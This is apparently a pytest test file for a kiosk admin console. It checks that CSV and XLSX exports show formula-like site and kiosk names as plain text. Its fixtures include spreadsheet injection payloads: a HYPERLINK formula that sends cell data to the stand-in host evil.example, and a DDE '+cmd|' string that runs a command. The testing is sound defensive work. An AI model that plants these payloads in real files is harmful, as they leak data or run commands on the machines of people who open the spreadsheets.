"""Names typed by admins reach a manager's spreadsheet: a site or kiosk name that starts like a
formula is shown as text, never run. The exports are read back as the manager's software
would: the CSV as a spreadsheet row, the XLSX with openpyxl (no formula cell survives)."""
from __future__ import annotations

import csv
import io

import openpyxl

from console.conftest import InProcess
from kiosk_server import tables as t

HOSTILE = {
    "FS Lille": '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "borne-1": "+cmd|' /C calc'!A0",
    "borne-2": "-2+3",
}


def rename(console_app: InProcess) -> dict[str, str]:
    """What an admin typed, stored as names (the console and the CLI accept any text)."""
    seed = console_app.seed
    with console_app.engine.begin() as conn:
        conn.execute(t.sites.update().where(t.sites.c.id == seed.sites["FS Lille"])
                     .values(name=HOSTILE["FS Lille"]))
        for kiosk in ("borne-1", "borne-2"):
            kiosk_id = seed.kiosks[("FS Lille", kiosk)][0]
            conn.execute(t.kiosks.update().where(t.kiosks.c.id == kiosk_id)
                         .values(name=HOSTILE[kiosk]))
        conn.execute(t.territories.update().where(t.territories.c.name == "Nord")
                     .values(name="@SUM(1+1)*cmd"))
    return HOSTILE


def site_export(console_app: InProcess, ext: str) -> bytes:
    seed = console_app.seed
    console_app.login("admin")
    period = f"periode=perso&debut={seed.today.replace(day=1)}&fin={seed.today}"
    answer = console_app.client.get(
        f"/console/export.{ext}?{period}&lieu=s:{seed.sites['FS Lille']}")
    assert answer.status_code == 200, answer.text[:500]
    return answer.content


def test_csv_cells_that_look_like_formulas_are_neutralised(console_app: InProcess):
    rename(console_app)
    text = site_export(console_app, "csv").decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == [], risky
    assert any(c.startswith("'=HYPERLINK") for c in cells)  # the text is kept, shown as text
    assert any(c == "'+cmd|' /C calc'!A0" for c in cells)


def test_xlsx_keeps_every_typed_name_a_string_and_no_formula(console_app: InProcess):
    rename(console_app)
    book = openpyxl.load_workbook(io.BytesIO(site_export(console_app, "xlsx")))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert HOSTILE["FS Lille"] in " ".join(str(v) for v in values)  # intact, as text
    numbers = [v for v in values if isinstance(v, (int, float))]
    assert numbers, "figures stay numbers"
